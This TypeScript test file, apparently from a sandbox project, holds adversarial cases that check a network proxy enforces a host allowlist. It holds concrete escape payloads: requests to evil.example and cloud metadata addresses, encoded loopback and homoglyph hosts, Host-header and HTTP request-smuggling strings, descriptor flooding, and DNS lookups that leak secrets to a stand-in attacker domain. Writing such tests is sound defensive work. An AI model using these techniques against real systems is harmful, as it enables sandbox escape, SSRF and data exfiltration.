import { connect } from "node:net";
import { serve } from "../../../src-main/tools/network/testing/servers.ts";
import type { Case, Family } from "../case.ts";
import { failed, refused } from "../case.ts";
import { python, withoutPython } from "../programs.ts";
import type { TestBed } from "../test-bed.ts";

const open = "93.184.216.34";
/** Listed names, and where they lead to. */
const leadsTo: Readonly<Record<string, readonly string[]>> = {
  "allowed.example": [open],
  "own.example": ["127.0.0.1"],
  "mapped.example": ["::ffff:127.0.0.1"],
  "private.example": ["10.0.0.7", "192.168.1.1", "172.16.0.1", "100.64.0.1"],
  "clouds.example": ["169.254.169.254", "168.63.129.16", "fd00:ec2::254"],
  "six.example": ["::1", "fe80::1", "fc00::1", "64:ff9b::7f00:1", "2002:7f00:1::"],
  "nothing.example": ["0.0.0.0", "255.255.255.255", "224.0.0.1"],
};
const hosts = [...Object.keys(leadsTo), "*.wild.example"];

/** What a command can do with a proxy: it speaks to it directly. `ask` sends bytes and shows the answer. */
const program = (body: string): string =>
  python(`
import ssl
def connected():
    s = socket.create_connection(("127.0.0.1", 3128), 10)
    s.settimeout(10)
    return s
def rest(s):
    text = b""
    try:
        while len(text) < 65536:
            part = s.recv(4096)
            if not part: break
            text += part
    except OSError: pass
    return text.decode("latin1")
def ask(text):
    s = connected()
    s.sendall(text.encode("latin1") if isinstance(text, str) else text)
    answer = rest(s)
    print(repr(text)[:80], "->", answer[:40].split("\\r\\n")[0], "REACHED" if "a server answers" in answer else "", flush=True)
def get(host, header=None, port=""):
    ask("GET http://%s%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (host, port, header or host + port))
def hello(connect, name):
    s = connected()
    s.sendall(("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (connect, connect)).encode())
    if b" 200 " not in s.recv(4096).split(b"\\r\\n")[0]: return print(connect, "refused")
    context = ssl._create_unverified_context()
    try: context.wrap_socket(s, server_hostname=name); print(connect, name, "REACHED")
    except OSError as problem: print(connect, name, problem)
print("honest", flush=True)
get("allowed.example")
print("attack", flush=True)
${body}
print("tried")`);

interface Seen {
  readonly dialled: string[];
  readonly lookedUp: string[];
  /** All that came as far as a host. */
  sent: string;
}
const seen = new WeakMap<TestBed, Seen>();

/**
 * A command that may reach a list of hosts. Each name is looked up, and each connection made, by the case: nothing but the honest
 * call may come as far as that. Names are a way out, too.
 */
const asks = (name: string, body: string, source = "own", allowed: readonly string[] = []): Case => ({
  name,
  source,
  impossible: withoutPython,
  attack: async (testBed) => {
    const server = await serve((_, response) => response.end("a server answers"));
    testBed.after(() => server.close());
    const found: Seen = { dialled: [], lookedUp: [], sent: "" };
    seen.set(testBed, found);
    await testBed.run(program(body), {
      timeoutMs: 60_000,
      hosts,
      network: {
        async resolveName(asked) {
          found.lookedUp.push(asked);
          const addresses = leadsTo[asked] ?? [open];
          return addresses.map((address) => ({ address, family: address.includes(":") ? 6 : 4 }));
        },
        dial(address, port) {
          found.dialled.push(`${address}:${port}`);
          const socket = connect(server.port, "127.0.0.1");
          const write = socket.write.bind(socket);
          socket.write = ((bytes: Uint8Array | string, ...rest: never[]) => {
            found.sent += Buffer.from(bytes as string).toString("latin1");
            return write(bytes, ...rest);
          }) as typeof socket.write;
          return socket;
        },
      },
    });
  },
  judge: (testBed) => {
    const { dialled = [], lookedUp = [], sent = "" } = seen.get(testBed) ?? {};
    const output = testBed.results[0]?.output ?? "";
    if (!output.includes("tried")) return failed("the attack did not run");
    const [, honest = "", attack = ""] = /honest\n([\s\S]*?)attack\n([\s\S]*)/u.exec(output) ?? [];
    if (!honest.includes("REACHED")) return failed("a listed host was not reached");
    const others = dialled.slice(1).filter((one) => !allowed.includes(one));
    if (others.length > 0) return failed(`reached: ${[...new Set(others)].join(", ")}`);
    if (allowed.length === 0 && attack.includes("REACHED")) return failed("a request got an answer");
    if (sent.includes("evil.example")) return failed("a host was told of another one");
    const names = lookedUp.filter((one) => !(one in leadsTo) && !one.endsWith(".wild.example"));
    return names.length > 0 ? failed(`looked up: ${names.join(", ")}`) : refused;
  },
});

/** The proxy of a command that may reach some hosts. */
export const listedHosts: Family = {
  name: "listed hosts",
  cases: [
    asks(
      "a-host-that-is-not-listed",
      `for host in ("evil.example", "${open}", "127.0.0.1", "[::1]", "169.254.169.254", "localhost", "0x7f.1", "2130706433"):
    get(host)
    hello(host + ":443", host.strip("[]"))`,
    ),
    // As long as one of its connections is open, the proxy has an end of it that no process of the command has.
    asks(
      "descriptors-that-are-sent-to-the-proxy",
      `import resource
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
for index in range(3):
    s = socket.socket(socket.AF_UNIX)
    s.connect("/run/hox-network/proxy")
    s.setblocking(False)
    sent = 0
    fds = [os.open("/dev/null", os.O_RDONLY) for one in range(100)] + [part.fileno() for part in socket.socketpair()]
    try:
        while sent < 60000: socket.send_fds(s, [b"x"], fds); sent += len(fds)
    except OSError as problem: print(problem)
time.sleep(3)`,
    ),
    asks(
      "another-port-of-a-listed-host",
      `for port in (":22", ":25", ":8080", ":443", ":0", ":65536", ":080", ":+80", ":80:22"): get("allowed.example", None, port)
for port in ("22", "80", "8443", "0443"): hello("allowed.example:" + port, "allowed.example")`,
      "own",
      // A plain request to its other open port, and the port that is open in another spelling.
      [`${open}:443`, `${open}:80`],
    ),
    asks(
      "names-that-only-look-listed",
      `for host in ("allowed.example.evil.example", "evilallowed.example", "wild.example", "xwild.example", "allowed.example@evil.example", "evil.example\\\\@allowed.example", "evil.example%2f.wild.example", "allowed.example%00.evil.example", "evil.example?.wild.example", "evil.example;.wild.example"):
    get(host)
    hello(host + ":443", "evil.example")`,
    ),
    asks(
      "names-in-other-letters",
      `for host in ("\\u0430llowed.example", "allowed\\u3002example\\u3002evil.example", "xn--llowed-8nf.example", "allowed.example\\u00ad.evil.example"):
    ask(("GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (host, host)).encode())
    ask(("CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n" % (host, host)).encode())`,
    ),
    asks(
      "a-host-header-that-names-another",
      `get("allowed.example", "evil.example")
ask("GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\nHost: evil.example\\r\\n\\r\\n")
ask("GET http://allowed.example/ HTTP/1.1\\r\\nHost : evil.example\\r\\n\\r\\n")
ask("GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example, evil.example\\r\\n\\r\\n")
ask("GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")`,
    ),
    asks(
      "a-listed-name-that-leads-to-this-machine",
      `for name in ("own", "mapped", "private", "clouds", "six", "nothing"):
    get(name + ".example")
    hello(name + ".example:443", name + ".example")`,
    ),
    asks(
      "a-tunnel-that-names-another-host-inside",
      `hello("allowed.example:443", "evil.example")
hello("allowed.example:443", None)
for first in (b"GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n", b"SSH-2.0-x\\r\\n", b"\\x16\\x03\\x01\\x00\\x05hello" + b"x" * 40):
    s = connected()
    try:
        s.sendall(b"CONNECT allowed.example:443 HTTP/1.1\\r\\nHost: allowed.example:443\\r\\n\\r\\n")
        s.recv(4096); s.sendall(first); print("REACHED" if "a server answers" in rest(s) else "refused")
    except OSError as problem: print(problem)`,
      "own",
      [`${open}:443`],
    ),
    asks(
      "two-requests-in-one",
      `second = "GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
first = "POST http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n"
ask(first + "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + second)
ask(first.replace("evil", "allowed") + "Content-Length: 0\\r\\nContent-Length: 90\\r\\n\\r\\n" + second)
ask(first.replace("evil", "allowed") + "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: x\\r\\n\\r\\n0\\r\\n\\r\\n" + second)
ask(first.replace("evil", "allowed") + "Content-Length: 0\\r\\n\\r\\n" + second)`,
      "own",
      [`${open}:80`],
    ),
    asks(
      "the-network-beside-the-proxy",
      `for host, port in (("${open}", 80), ("127.0.0.1", 80), ("allowed.example", 80)):
    try: socket.create_connection((host, port), 2).recv(9); print("REACHED")
    except OSError as problem: print(problem)
for path in sorted(os.listdir("/run/hox-network")):
    for flags in (os.O_WRONLY, os.O_RDWR | os.O_CREAT):
        try: os.open("/run/hox-network/" + path, flags); print("REACHED written", path)
        except OSError as problem: print(problem)`,
    ),
    asks(
      "secrets-in-names-that-are-looked-up",
      `for name in ("secret.evil.example", "secret.allowed.example", "a.b.evil-wild.example"): get(name)
try: print(socket.getaddrinfo("secret.evil.example", 80))
except OSError as problem: print(problem)`,
    ),
  ],
};
